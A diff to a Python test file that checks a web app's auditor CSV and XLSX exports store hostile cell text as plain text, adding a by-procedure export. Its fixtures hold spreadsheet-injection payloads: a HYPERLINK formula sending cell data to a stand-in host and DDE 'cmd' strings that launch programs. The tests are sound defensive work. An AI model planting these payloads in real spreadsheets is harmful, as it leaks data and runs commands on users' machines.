@@ -30,6 +30,7 @@ from tests.support.web import PASSWORD, log_in, web_client, web_services
 UNIT = "xa-an-binh"
 FIELD = '=HYPERLINK("http://ke-gian.example/?"&A1,"Bấm vào đây")'
 LINE = "@SUM(1+1)*cmd|' /C calc'!A0"
+PROCEDURE = "+cmd|' /C notepad'!A0"
 # From the dossier's month to today, when the receipt is issued.
 PERIOD = {"from": "2026-10-01", "to": f"{datetime.now(ZoneInfo('Asia/Ho_Chi_Minh')):%Y-%m-%d}"}
 
@@ -40,6 +41,9 @@ class Exports:
     rates_xlsx: bytes
     usage_csv: bytes
     usage_xlsx: bytes
+    by_procedure_csv: bytes
+    """Rates by procedure: a column of the procedures' names."""
+    by_procedure_xlsx: bytes
 
 
 @pytest.fixture(scope="module")
@@ -73,7 +77,7 @@ def exports(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Exports]:
 def _push_row(client: TestClient, token: str) -> None:
     row = {
         "code": "H57.132-261008-0975", "procedure_code": "1.001612",
-        "procedure_name": "Chứng thực bản sao", "field": FIELD, "unit": UNIT,
+        "procedure_name": PROCEDURE, "field": FIELD, "unit": UNIT,
         "channel": "trực tiếp", "received_at": "08/10/2026 08:30", "result_required": True,
     }  # fmt: skip
     pushed = client.post(
@@ -89,11 +93,14 @@ def _download(client: TestClient) -> Exports:
         return answer.content
 
     rates = {**PERIOD, "by": "field"}
+    by_procedure = {**PERIOD, "by": "procedure"}
     return Exports(
         rates_csv=get("/auditor/rates/export", **rates, format="csv"),
         rates_xlsx=get("/auditor/rates/export", **rates, format="xlsx"),
         usage_csv=get("/auditor/receipt-usage/export", **PERIOD, format="csv"),
         usage_xlsx=get("/auditor/receipt-usage/export", **PERIOD, format="xlsx"),
+        by_procedure_csv=get("/auditor/rates/export", **by_procedure, format="csv"),
+        by_procedure_xlsx=get("/auditor/rates/export", **by_procedure, format="xlsx"),
     )
 
 
@@ -103,7 +110,11 @@ def csv_cells(content: bytes) -> list[str]:
 
 
 def test_a_csv_export_starts_no_cell_with_a_formula(exports: Exports) -> None:
-    for content, text in ((exports.rates_csv, FIELD), (exports.usage_csv, LINE)):
+    for content, text in (
+        (exports.rates_csv, FIELD),
+        (exports.usage_csv, LINE),
+        (exports.by_procedure_csv, PROCEDURE),
+    ):
         cells = csv_cells(content)
         assert "'" + text in cells  # the text is there, marked as text
         risky = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
@@ -118,7 +129,11 @@ def _sheet_xml(content: bytes) -> tuple[str, str]:
 
 
 def test_an_xlsx_export_stores_the_text_as_text(exports: Exports) -> None:
-    for content, text in ((exports.rates_xlsx, FIELD), (exports.usage_xlsx, LINE)):
+    for content, text in (
+        (exports.rates_xlsx, FIELD),
+        (exports.usage_xlsx, LINE),
+        (exports.by_procedure_xlsx, PROCEDURE),
+    ):
         sheet, styles = _sheet_xml(content)
         assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere
         cells = re.findall(r'<c r="[A-Z]+\d+"(?: s="(\d+)")? t="(\w+)"><is><t>([^<]*)</t>', sheet)
